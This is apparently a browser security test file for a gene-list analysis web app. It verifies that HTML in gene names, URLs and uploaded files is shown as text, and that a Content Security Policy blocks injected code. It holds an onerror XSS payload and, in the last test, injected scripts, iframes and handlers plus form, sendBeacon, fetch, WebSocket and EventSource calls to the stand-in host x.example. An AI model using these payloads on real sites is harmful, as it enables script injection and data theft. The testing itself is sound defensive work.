// What strangers may send: names that are HTML, files of any kind, and code that wants to run or to reach a network.
import {readFile} from 'node:fs/promises';
import type {AddressInfo} from 'node:net';
import {createServer, type Server} from 'node:net';
import {gzipSync} from 'node:zlib';
import {afterAll, beforeAll, expect, test} from '@jest/globals';
import type {Browser} from 'playwright-core';
import {readModelFile} from '../../../run/geneglot.mjs';
import {encodeModelFile} from '../../../shared/formats/model-file.ts';
import {OWN_FILE} from '../compute/ask-worker.ts';
import {startChromium} from './chromium.ts';
import {describeInBrowser} from './describe-in-browser.ts';
import {type PageFile, textOf, Workbench, writePage} from './workbench.ts';

/** Without blanks, so that it is one name in a list too. */
const EVIL = '<img/src=x/onerror=globalThis.ran=1>';
/** The browser looks for updates of its own, whatever page is open. */
const OF_CHROMIUM = /^\w+ (http:\/\/)?[a-z.]*\.google(apis)?\.com[:/]/;
const LIST = 'TP53 MDM2 CDKN1A ATM';

/** The model with every name in it but symbols preceded by markup. */
async function evilModel(): Promise<Uint8Array> {
  const {about, parts} = await readModelFile(await readFile(OWN_FILE), OWN_FILE);
  const change = (name: string, edit: (line: string) => string) =>
    parts.set(name, String(parts.get(name)).split('\n').map(edit).join('\n'));
  change('gene-names', line => `${EVIL}${line}`);
  change('sets.titles', line => line.replace(/^(.*)\t/, `$1${EVIL}\t${EVIL}`));
  const sources = about.sources?.map(source => ({
    ...source,
    title: EVIL,
    licence: EVIL,
    url: EVIL,
  }));
  return encodeModelFile({about: {...about, title: EVIL, ...(sources && {sources})}, parts});
}

describeInBrowser('what strangers send', () => {
  let file: PageFile;
  let browser: Browser;
  let bench: Workbench;
  /** Whatever wants to leave the machine comes here. */
  let network: Server;
  const asked: string[] = [];
  beforeAll(async () => {
    network = createServer(socket => {
      socket.once('data', data => {
        const [line] = data.toString().split('\r\n');
        if (!OF_CHROMIUM.test(line)) asked.push(line);
        socket.destroy();
      });
    });
    await new Promise<void>(resolve => network.listen(0, '127.0.0.1', resolve));
    const {port} = network.address() as AddressInfo;
    [file, browser] = await Promise.all([
      evilModel().then(writePage),
      startChromium(`http://127.0.0.1:${port}`),
    ]);
    bench = await Workbench.open(browser, file.address);
  });
  afterAll(async () => {
    await browser.close();
    network.close();
    await file.remove();
  });

  /** What code of a stranger left behind. */
  const ran = () =>
    bench.page.evaluate(() => [
      Reflect.get(globalThis, 'ran') ?? 0,
      document.querySelectorAll('img, #app script, iframe').length,
    ]);

  test('names that are HTML stand in every panel as text', async () => {
    const {page} = bench;
    await bench.ask(`${LIST} <b>bold</b> ${EVIL}`);
    await bench.panel('complete').locator('button.row').first().click();
    await bench.panel('complete').locator('.why h3').first().waitFor();
    await bench.panel('enrich').locator('button.row').first().click();
    for (const summary of await page.locator('summary').all()) await summary.click();
    for (const name of [EVIL, 'other']) {
      await page.getByRole('textbox', {name: /^Keep the list/}).fill(name);
      await page.getByRole('button', {name: 'Keep', exact: true}).click();
    }
    await bench.settle();
    await bench.panel('fit').getByRole('button', {name: 'ATM', exact: true}).click();
    await bench.settle();
    for (const part of [
      'header',
      '.headline',
      '[data-panel="complete"]',
      '[data-panel="enrich"]',
      '[data-panel="fit"]',
      '[data-panel="matrix"]',
      '[data-panel="compare"]',
      '[data-panel="gene"]',
      'footer',
    ]) {
      expect([part, await textOf(page.locator(part))]).toEqual([
        part,
        expect.stringContaining(EVIL),
      ]);
    }
    await page.keyboard.press('Escape');
    expect(await ran()).toEqual([0, 0]);
  });

  test('markup in pictures taken away is text', async () => {
    for (const kind of ['enrich', 'matrix'] as const) {
      const {text} = await bench.take(
        bench.panel(kind).getByRole('button', {name: 'SVG', exact: true}),
      );
      expect(text).toContain('&lt;img');
      expect(text).not.toMatch(/<(script|img|foreignObject)/);
      await bench.take(bench.panel(kind).getByRole('button', {name: 'PNG', exact: true}));
    }
  });

  test('markup in an address, a file and its name is text', async () => {
    const {page} = bench;
    const evil = await Workbench.open(
      browser,
      `${file.address}#genes=TP53+${encodeURIComponent(EVIL)}&gene=${encodeURIComponent(EVIL)}&library=${encodeURIComponent(EVIL)}&list=${encodeURIComponent(EVIL)}%09TP53&list=b%09TP53`,
    );
    expect(
      await evil.page.evaluate(() => [
        Reflect.get(globalThis, 'ran') ?? 0,
        document.querySelectorAll('img').length,
      ]),
    ).toEqual([0, 0]);
    await evil.close();
    await bench.drop(`${EVIL}.gmt`, `${EVIL}\t${EVIL}\tTP53\t${EVIL}\nb\t\tTP53\tMDM2\n`);
    const dialog = page.locator('dialog.file-choice');
    await bench.file(`${EVIL}.gmt`).waitFor();
    expect(await textOf(dialog)).toContain(EVIL);
    await dialog.getByRole('button', {name: /Test lists against these/}).click();
    await bench.settle();
    await bench.drop('x.csv', `gene,"${EVIL.replaceAll('"', '""')}"\nTP53,1\nMDM2,2\n`);
    await bench.file('x.csv').waitFor();
    expect(await textOf(dialog)).toContain(EVIL);
    await page.keyboard.press('Escape');
    expect(await ran()).toEqual([0, 0]);
  });

  test.each([
    ['list.txt', 'TP53\nMDM2\r\nATM\n'],
    ['list.txt', '\ufeff# a comment\nTP53\nMDM2\nATM'],
    ['list.txt.gz', gzipSync('TP53\nMDM2\nATM\n')],
    ['list.csv', Buffer.from('\ufeffTP53\r\nMDM2\r\nATM\r\n', 'utf16le')],
  ])('a list in %s fills the box (%#)', async (name, content) => {
    await bench.ask('');
    await bench.drop(name, content);
    await bench.page.locator('.readings .count').waitFor();
    await bench.settle();
    const dialog = bench.file(name);
    if (await dialog.isVisible()) await dialog.getByRole('button', {name: 'Close'}).click();
    expect(await bench.box.inputValue()).toBe('TP53\nMDM2\nATM');
  });

  test.each([
    ['table.csv', ','],
    ['table.tsv', '\t'],
    ['table.csv.gz', ';'],
  ])(
    'a table in %s: a column and a cut-off are chosen, and the rest is the background',
    async (name, separator) => {
      const rows = [
        ['row', 'symbol', 'padj'],
        ...['TP53', 'MDM2', 'ATM', 'INS', 'GCG'].map((gene, i) => [
          `x${i}`,
          gene,
          `${0.02 * (i + 1)}`,
        ]),
      ];
      const text = `${rows.map(row => row.join(separator)).join('\n')}\n`;
      await bench.drop(name, name.endsWith('.gz') ? gzipSync(text) : text);
      const dialog = bench.file(name);
      expect(await dialog.getByRole('radio', {name: /^symbol/}).isChecked()).toBe(true);
      await dialog.getByRole('combobox', {name: /Rows whose/}).selectOption('padj');
      expect(await dialog.getByRole('spinbutton', {name: 'Cut-off'}).inputValue()).toBe('0.05');
      await dialog.getByRole('button', {name: 'Take 2 genes'}).waitFor();
      await dialog.getByRole('button', {name: /all genes of the table as background/}).click();
      await bench.settle();
      expect(await bench.box.inputValue()).toBe('TP53\nMDM2');
      expect(await textOf(bench.page.locator('details.scope > summary'))).toContain(
        'all genes of the table (5 genes)',
      );
    },
  );

  test.each([
    ['empty.txt', ''],
    ['picture.png', Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')],
    ['noise.bin', Buffer.from(Array.from({length: 999}, (_, i) => (i * 7919) % 256))],
    ['cut.gz', gzipSync('TP53\n'.repeat(999)).subarray(0, 40)],
    ['letter.txt', 'Lorem ipsum dolor'],
    ['empty.gmt', 'a line without a gene'],
  ])('%s is refused by a sentence that names it, and nothing is lost', async (name, content) => {
    const before = await bench.box.inputValue();
    await bench.drop(name, content);
    const dialog = bench.file(name);
    const sentence = await textOf(dialog.getByRole('alert'));
    expect(sentence).toContain(name);
    expect(sentence).toMatch(/[.!]$/);
    expect(sentence).not.toMatch(/fault of geneglot|undefined|Error/);
    await dialog.getByRole('button', {name: 'Close'}).click();
    expect(await bench.box.inputValue()).toBe(before);
  });

  test('the page has asked for nothing but itself and its worker, and nothing came to the network', () => {
    const foreign = bench.requests.filter(url => !/^(blob|data):/.test(url));
    expect(new Set(foreign.map(url => url.split('#')[0]))).toEqual(new Set([file.address]));
    expect(asked).toEqual([]);
    expect(bench.said).toEqual([]);
  });

  test('code that is put into the page does not run, and reaches nothing', async () => {
    const blocked = await bench.page.evaluate(async () => {
      const violated: string[] = [];
      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
        violated.push(effectiveDirective),
      );
      const script = document.createElement('script');
      script.textContent = 'globalThis.ran = 1';
      const loaded = Object.assign(document.createElement('script'), {
        src: 'http://x.example/a.js',
      });
      const style = Object.assign(document.createElement('link'), {
        rel: 'stylesheet',
        href: 'http://x.example/a.css',
      });
      const frame = Object.assign(document.createElement('iframe'), {src: 'http://x.example/'});
      document.body.append(script, loaded, style, frame);
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="http://x.example/a.png" onerror="globalThis.ran = 1"><p onclick="globalThis.ran = 1" id="evil">x</p>',
      );
      document.getElementById('evil')?.click();
      const form = Object.assign(document.createElement('form'), {
        action: 'http://x.example/',
        method: 'post',
      });
      document.body.append(form);
      form.submit();
      navigator.sendBeacon('http://x.example/', 'genes');
      const answer = await fetch('http://x.example/').then(
        () => 'answered',
        () => 'refused',
      );
      try {
        new WebSocket('ws://x.example/');
      } catch {}
      try {
        new EventSource('http://x.example/');
      } catch {}
      await new Promise(resolve => setTimeout(resolve, 200));
      return {
        answer,
        ran: Reflect.get(globalThis, 'ran') ?? 0,
        violated: [...new Set(violated)].sort(),
      };
    });
    expect(blocked).toEqual({
      ...{answer: 'refused', ran: 0},
      violated: [
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ],
    });
    expect(asked).toEqual([]);
  });
});
